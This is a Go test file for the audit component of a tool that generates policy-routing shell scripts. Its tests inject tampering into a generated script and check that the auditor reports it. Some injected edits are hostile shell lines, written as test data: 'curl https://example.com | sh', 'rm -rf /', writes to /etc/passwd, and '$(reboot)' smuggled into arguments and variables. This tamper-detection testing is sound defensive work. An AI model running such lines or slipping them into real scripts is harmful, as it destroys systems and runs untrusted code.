package audit_test

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/gen-splitroute/gen-splitroute/generator/audit"
	"github.com/gen-splitroute/gen-splitroute/generator/script"
)

// edit is a text and what takes its place.
type edit struct{ old, new string }

// TestEdits: each edit of a script is found, where it is.
func TestEdits(t *testing.T) {
	for _, test := range edits {
		t.Run(test.name, func(t *testing.T) {
			text := kinds(t, planOf(t, test.file))[test.kind]
			for _, e := range test.edits {
				if bytes.Count(text, []byte(e.old)) == 0 {
					t.Fatalf("the script has no %q", e.old)
				}
				text = bytes.Replace(text, []byte(e.old), []byte(e.new), 1)
			}
			check(t, "compared", auditOf(t, text, test.file), text, test.want)
			if test.library != nil {
				check(t, "alone", library(t, text), text, test.library)
			}
		})
	}
}

// check compares findings with "KIND PART | a part of the line in the script".
func check(t *testing.T, how string, r audit.Report, text []byte, want []string) {
	t.Helper()
	lines := strings.Split(string(text), "\n")
	var got []string
	for i, f := range r.Findings {
		line := strings.TrimSpace(lines[f.Line-1])
		got = append(got, fmt.Sprintf("%s %s | %s", f.Kind, f.Part, line))
		if i < len(want) && strings.HasSuffix(want[i], " |") {
			got[i] = got[i][:len(want[i])] // wherever it is
		}
		if f.Text == "" || f.Remedy == "" {
			t.Errorf("%s: a finding without a text or a remedy: %+v", how, f)
		}
	}
	if !slices.Equal(got, want) {
		t.Errorf("%s:\n%s\nwant\n  %s\nreport:\n%s", how, "  "+strings.Join(got, "\n  "), strings.Join(want, "\n  "), r.Text())
	}
}

const (
	gateway = `ip route prepend default via 203.0.113.1 dev if1 src 203.0.113.2 table 101 proto "$tag"`
	link    = `ip route prepend 203.0.113.0/30 dev if1 src 203.0.113.2 table 101 proto "$tag"`
	source1 = `ip rule add priority 22001 from 203.0.113.2 lookup 101 protocol "$tag"`
	at1     = "\tat 'provider.isp1.ipv4.address: packets from its address use its table'\n"
	at2     = "\tat 'provider.isp2.ipv4.address: packets from its address use its table'\n"
	source2 = `ip rule add priority 22002 from 198.51.100.2 lookup 102 protocol "$tag"`
	trap    = "trap 'echo \"splitroute: this script is cut short, and did nothing\" >&2; exit 1' EXIT\n"
	hand    = "by_hand() {\n\t:\n}\n"
	begins  = "{ main \"$@\"; }\n"
)

// none is for an edit that differs from no configuration at all.
var none = []string{}

var edits = []struct {
	name, kind, file string
	edits            []edit
	want             []string // compared with the configuration
	library          []string // alone; nil: not looked at
}{
	// No difference.
	{"nothing", "setup", "lartc.hcl", nil, none, none},
	{"comment", "setup", "lartc.hcl", []edit{{"needs() {", "# mine\nneeds() {\n\t# mine, too"}}, none, none},
	{"layout", "setup", "lartc.hcl", []edit{{gateway, `ip  route prepend default \` + "\n   via 203.0.113.1 dev if1 src 203.0.113.2 table 101 proto \"$tag\" # so"}}, none, none},
	{"blank lines between modules", "setup", "lartc.hcl", []edit{{"\n# ==== names", "\n\n\n# ==== names"}}, none, none},
	{"comment at the end", "setup", "lartc.hcl", []edit{{begins, begins + "# the end\n"}}, none, none},
	{"like a module behind main", "setup", "lartc.hcl", []edit{{begins, begins + "# ==== core, sha256 0 ====\n"}}, none, none},
	{"by hand", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\t" + gateway + "\n}\n"}}, none, none},

	// Commands.
	{"changed", "setup", "lartc.hcl", []edit{{gateway, strings.Replace(gateway, "203.0.113.1 ", "203.0.113.9 ", 1)}},
		[]string{"changed routes_and_rules | " + strings.Replace(gateway, "203.0.113.1 ", "203.0.113.9 ", 1)}, none},
	{"changed for another", "setup", "lartc.hcl", []edit{{"at 'provider.isp1.ipv4: routes of", "at 'provider.isp2.ipv4: routes of"}},
		[]string{"changed routes_and_rules | " + link, "changed routes_and_rules | " + gateway}, none},
	{"changed, found out by a shell", "setup", "lartc.hcl", []edit{{"at 'provider.isp1.ipv4: routes of its own table'", `at "$(reboot)"`}},
		[]string{"changed routes_and_rules | " + link, "changed routes_and_rules | " + gateway}, nil},
	{"added", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tip rule add priority 22500 from 192.0.2.1 lookup 101 protocol \"$tag\""}},
		[]string{`added routes_and_rules | ip rule add priority 22500 from 192.0.2.1 lookup 101 protocol "$tag"`}, none},
	{"added program", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tcurl https://example.com | sh"}},
		[]string{"added routes_and_rules | curl https://example.com | sh"}, []string{"misplaced routes_and_rules | curl https://example.com | sh"}},
	{"added variable", "setup", "lartc.hcl", []edit{{source1, "PATH=/tmp\n\t" + source1}, {"isp1_ipv4_on=$on", "isp1_ipv4_on=$on tag=4"}},
		[]string{"changed needs | isp1_ipv4_on=$on tag=4", "added routes_and_rules | PATH=/tmp"}, []string{"misplaced needs | isp1_ipv4_on=$on tag=4", "misplaced routes_and_rules | PATH=/tmp"}},
	{"added in an empty function", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { reboot; }"}},
		[]string{"added sets | sets() { reboot; }"}, []string{"misplaced sets | sets() { reboot; }"}},
	{"added at", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tat \"$(reboot)\""}},
		[]string{`added routes_and_rules | at "$(reboot)"`}, []string{`misplaced routes_and_rules | at "$(reboot)"`}},
	{"added in the background", "setup", "lartc.hcl", []edit{{source1, source1 + " &"}},
		[]string{"changed routes_and_rules | " + source1 + " &"}, []string{"misplaced routes_and_rules | " + source1 + " &"}},
	{"redirected", "setup", "lartc.hcl", []edit{{source1, source1 + " >/etc/passwd"}},
		[]string{"changed routes_and_rules | " + source1 + " >/etc/passwd"}, []string{"misplaced routes_and_rules | " + source1 + " >/etc/passwd"}},
	{"redirected function", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { :; } >/etc/passwd"}},
		[]string{"added sets | sets() { :; } >/etc/passwd"}, []string{"misplaced sets | sets() { :; } >/etc/passwd"}},
	{"removed", "setup", "lartc.hcl", []edit{{at1 + "\t" + source1 + "\n", ""}},
		[]string{"removed routes_and_rules | " + source2}, none},
	{"removed at the end", "setup", "lartc.hcl", []edit{{"\tat 'settings: marker: setup is complete'\n", ""}, {"\tip rule add priority 32765 from 255.255.255.255 nop protocol \"$tag\"\n", "\t:\n"}},
		[]string{"removed marker | }"}, none},
	{"moved", "setup", "lartc.hcl", []edit{{at1 + "\t" + source1 + "\n", ""}, {at2 + "\t" + source2 + "\n", at2 + "\t" + source2 + "\n" + at1 + "\t" + source1 + "\n"}},
		[]string{"moved routes_and_rules | " + source1}, none},
	{"needs", "setup", "lartc.hcl", []edit{{"\tneed_link loopback lo\n", ""}, {"if2 198.51.100.2/30 198.51.100.1", "if2 198.51.100.2/30 198.51.100.9"}},
		[]string{"changed needs | uplink provider.isp2.ipv4 if2 198.51.100.2/30 198.51.100.9 optional balanced", "removed needs | forwards ipv4 if1 if2 if0"}, none},
	{"nft", "setup", "home.hcl", []edit{{`oifname "eth0" ct state new ct mark & 0x3f00 == 0`, `oifname "eth0" ct state new ct mark & 0x3f00 == 1`}, {"\tchain output {\n", "\tchain output {\n\t\taccept\n"}},
		[]string{"added marks | accept", `changed marks | oifname "eth0" ct state new ct mark & 0x3f00 == 1 ct mark set ct mark & 0xffffc0ff | 0x100`}, none},
	{"nft runs", "setup", "home.hcl", []edit{{"\tchain output {\n", "\tchain output {\n\t\t# $(reboot)\n"}},
		[]string{"added marks | # $(reboot)"}, []string{"misplaced marks | nft -f - <<EOF"}},
	{"nft quoted", "setup", "home.hcl", []edit{{"nft -f - <<EOF", "nft -f - <<'EOF'"}},
		[]string{"changed marks | nft -f - <<'EOF'"}, none},
	{"teardown", "teardown", "lartc.hcl", []edit{{"\tgive_back net/ipv4/conf/if2/ignore_routes_with_linkdown net/ipv4/conf/if2/rp_filter\n", "\trm -rf /\n"}},
		[]string{"changed commands | rm -rf /"}, []string{"misplaced commands | rm -rf /"}},
	{"recalls", "teardown", "home.hcl", []edit{{"\trecall provider.lte.ipv4\n", ""}},
		[]string{"removed recalls | lte_ipv4_address=$address lte_ipv4_addresses=$addresses lte_ipv4_network=$network lte_ipv4_length=$length lte_ipv4_gateway=$gateway"}, none},

	// Variables.
	{"variable", "setup", "lartc.hcl", []edit{{"tags='201 202'", "tags='201 203'"}},
		[]string{"changed variables | tags='201 203' priorities='20000 28999' default_table=main mark_mask=''"}, none},
	{"tables", "setup", "home.hcl", []edit{{"102 lte 0x200", "103 lte 0x200"}, {"1000 splitroute'", "1000 splitroute\n7 mine'"}},
		[]string{"changed variables | 103 lte 0x200/0x3f00", "added variables | 7 mine'"}, none},
	{"unknown variable", "setup", "lartc.hcl", []edit{{"names_in=", "PATH=/tmp names_in="}},
		[]string{"added variables | PATH=/tmp names_in='/etc/iproute2/rt_tables' providers='isp1 isp2'"}, []string{"misplaced variables | PATH=/tmp names_in='/etc/iproute2/rt_tables' providers='isp1 isp2'"}},
	{"no variable", "setup", "lartc.hcl", []edit{{"names_in='/etc/iproute2/rt_tables' ", ""}},
		[]string{"removed variables | tables='101 isp1"}, []string{"missing variables | tables='101 isp1"}},
	{"variable twice", "setup", "lartc.hcl", []edit{{"names_in='/etc/iproute2/rt_tables' ", "names_in=x\nnames_in='/etc/iproute2/rt_tables' "}},
		[]string{"added variables | names_in=x"}, []string{"misplaced variables | names_in='/etc/iproute2/rt_tables' providers='isp1 isp2'"}},
	{"variable runs", "setup", "lartc.hcl", []edit{{"names_in='/etc/iproute2/rt_tables'", "names_in=$(reboot)"}},
		[]string{"changed variables | names_in=$(reboot) providers='isp1 isp2'"}, []string{"misplaced variables | names_in=$(reboot) providers='isp1 isp2'"}},
	{"odd confirm", "setup --confirm 60", "lartc.hcl", []edit{{"confirm='60'", "confirm='soon'"}},
		[]string{"changed variables |"}, none},
	{"confirm taken out", "setup --confirm 60", "lartc.hcl", []edit{{"confirm='60'", "confirm=''"}},
		[]string{"library nft |", "library confirm |"}, []string{"library nft |", "library confirm |"}},
	{"confirm put in", "setup", "lartc.hcl", []edit{{"confirm=''", "confirm='90'"}},
		[]string{"library nft | { main \"$@\"; }", "library confirm | { main \"$@\"; }"}, []string{"library nft | { main \"$@\"; }", "library confirm | { main \"$@\"; }"}},

	// Tags, and commands in by_hand.
	{"no tag", "setup", "lartc.hcl", []edit{{gateway, strings.TrimSuffix(gateway, ` proto "$tag"`)}},
		[]string{"untagged routes_and_rules |", "changed routes_and_rules |"}, []string{"untagged routes_and_rules |"}},
	{"another tag", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\tip rule add priority 1 nop protocol static\n\tip rule add priority 2 nop protocol \"${tag:-4}\"\n\tip rule add priority 3 nop protocol ${tag}\n}\n"}},
		[]string{"untagged by_hand | ip rule add priority 1 nop protocol static", `untagged by_hand | ip rule add priority 2 nop protocol "${tag:-4}"`}, nil},
	{"no tag in a loop", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\tfor to in a b; do\n\t\tip rule add priority 1 to \"$to\" nop\n\tdone\n}\n"}},
		[]string{`untagged by_hand | ip rule add priority 1 to "$to" nop`}, nil},
	{"no tag in teardown", "teardown", "lartc.hcl", []edit{{"22001 from 203.0.113.2 lookup 101 protocol \"$tag\"", "22001 from 203.0.113.2 lookup 101"}},
		[]string{"untagged commands |", "changed commands |"}, []string{"untagged commands |"}},
	{"not by hand", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\tsysctl -w a=b\n\t/sbin/ip route add 192.0.2.0/24 dev if0 proto \"$tag\"\n\tip route add 192.0.2.0/24 dev if0 proto \"$tag\"\n" +
		"\ttag=4\n\techo >/etc/passwd\n\ttrue >&9 2>&1 2>/dev/null\n\tip() { :; }\n\tx=$(reboot)\n\tip -6 route prepend 2001:db8::/32 dev if0 metric \"$metric\" proto \"$tag\"\n}\n"}},
		[]string{"not by hand by_hand | sysctl -w a=b", `not by hand by_hand | /sbin/ip route add 192.0.2.0/24 dev if0 proto "$tag"`, `not by hand by_hand | ip route add 192.0.2.0/24 dev if0 proto "$tag"`,
			"not by hand by_hand | tag=4", "not by hand by_hand | echo >/etc/passwd", "not by hand by_hand | echo >/etc/passwd", "not by hand by_hand | true >&9 2>&1 2>/dev/null", "not by hand by_hand | ip() { :; }", "not by hand by_hand | x=$(reboot)"}, nil},

	// Statements outside of functions.
	{"no trap", "setup", "lartc.hcl", []edit{{trap, ""}}, []string{"missing top level | set -eu"}, []string{"missing top level | set -eu"}},
	{"another trap", "setup", "lartc.hcl", []edit{{"exit 1' EXIT", "exit 0' EXIT"}}, []string{"changed top level |"}, []string{"changed top level |"}},
	{"before the trap", "setup", "lartc.hcl", []edit{{trap, "x=1\n" + trap}}, []string{"added variables | x=1", "first statement top level | " + strings.TrimSpace(trap)}, nil},
	{"trap behind", "setup", "lartc.hcl", []edit{{trap, ""}, {"set -eu\n", "set -eu\n" + trap}}, []string{"first statement top level | " + strings.TrimSpace(trap)}, []string{"first statement top level | " + strings.TrimSpace(trap)}},
	{"no set", "teardown", "lartc.hcl", []edit{{"set -eu\n", ""}}, []string{"missing top level | recalls() { :; }"}, []string{"missing top level | recalls() { :; }"}},
	{"statement", "setup", "lartc.hcl", []edit{{"sets() { :; }", "reboot\nsets() { :; }"}}, []string{"misplaced top level | reboot"}, []string{"misplaced top level | reboot"}},
	{"function", "setup", "lartc.hcl", []edit{{"sets() { :; }", "mine() { :; }\nsets() { :; }"}}, []string{"misplaced top level | mine() { :; }"}, []string{"misplaced top level | mine() { :; }"}},
	{"function in the background", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { :; } &"}}, []string{"misplaced top level | sets() { :; } &", "missing sets |"}, nil},
	{"function twice", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { reboot; }\nsets() { :; }"}}, []string{"misplaced top level | sets() { reboot; }"}, []string{"misplaced top level | sets() { reboot; }"}},
	{"function gone", "setup", "lartc.hcl", []edit{{"sets() { :; }\n", ""}}, []string{"missing sets |"}, []string{"missing sets |"}},
	{"by_hand gone", "setup", "lartc.hcl", []edit{{hand, ""}}, []string{"missing by_hand |"}, []string{"missing by_hand |"}},
	{"no main", "setup", "lartc.hcl", []edit{{"\n" + begins, ""}}, []string{"last statement top level |"}, []string{"last statement top level |"}},
	{"main without words", "setup", "lartc.hcl", []edit{{begins, "main\n"}}, []string{"last statement top level | main"}, []string{"last statement top level | main"}},
	{"main redirected", "setup", "lartc.hcl", []edit{{begins, "{ main \"$@\"; } >x\n"}}, []string{`last statement top level | { main "$@"; } >x`}, []string{`last statement top level | { main "$@"; } >x`}},
	{"main in the background", "setup", "lartc.hcl", []edit{{begins, "{ main \"$@\"; } &\n"}}, []string{`last statement top level | { main "$@"; } &`}, []string{`last statement top level | { main "$@"; } &`}},
	{"behind main", "setup", "lartc.hcl", []edit{{begins, begins + "exit 0\n"}}, []string{"misplaced top level | exit 0"}, []string{"misplaced top level | exit 0"}},
	{"main in the head", "setup", "lartc.hcl", []edit{{"sets() { :; }", begins + "sets() { :; }"}}, []string{`misplaced top level | { main "$@"; }`}, []string{`misplaced top level | { main "$@"; }`}},

	// The library.
	{"edited", "setup", "lartc.hcl", []edit{{"die() {\n", "die() {\n\treboot\n"}}, []string{"library core | reboot"}, []string{"library core | reboot"}},
	{"edited comment", "teardown", "lartc.hcl", []edit{{"# What setup and teardown share.", "# what setup and teardown share."}},
		[]string{"library core | # what setup and teardown share. The last line of the script calls main; nothing runs before that."}, nil},
	{"digest", "setup", "lartc.hcl", []edit{{"# ==== core, sha256 ", "# ==== core, sha256 0"}}, []string{"library core |"}, []string{"library core |"}},
	{"in a document", "setup", "home.hcl", []edit{{"\tchain output {\n", "\tchain output {\n# ==== core, sha256 0 ====\n"}}, []string{"added marks | # ==== core, sha256 0 ===="}, none},
	{"behind a module", "setup", "lartc.hcl", []edit{{"\n" + begins, "\nsay() { :; }\n\n" + begins}}, []string{"misplaced top level | say() { :; }"}, []string{"misplaced top level | say() { :; }"}},
	{"behind another module", "setup", "lartc.hcl", []edit{{"# ==== core, sha256 ", "# ==== core, sha256 0"}, {"\n# ==== names", "\nreboot\n\n# ==== names"}},
		[]string{"library core |"}, []string{"library core |"}},
	{"between modules", "setup", "lartc.hcl", []edit{{"\n# ==== names", "\nreboot\n\n# ==== names"}}, []string{"misplaced top level | reboot"}, []string{"misplaced top level | reboot"}},
	{"release", "setup", "lartc.hcl", []edit{{"gen-splitroute " + script.Release, "gen-splitroute 0.0.9"}},
		[]string{"release top level | # Written by gen-splitroute 0.0.9, to be read, checked and edited."}, []string{"release top level | # Written by gen-splitroute 0.0.9, to be read, checked and edited."}},
	{"no release", "setup", "lartc.hcl", []edit{{"# Written by gen-splitroute", "# By"}}, []string{"release top level | #!/bin/sh"}, []string{"release top level | #!/bin/sh"}},
	{"read by hand", "setup", "lartc.hcl", []edit{{"\tneed_link loopback lo\n", "\tread_uplink provider.x.ipv4 if9 -4 auto auto\n"}},
		[]string{"changed needs |", "library lists | { main \"$@\"; }", "library auto | { main \"$@\"; }"}, []string{"library lists | { main \"$@\"; }", "library auto | { main \"$@\"; }"}},
}
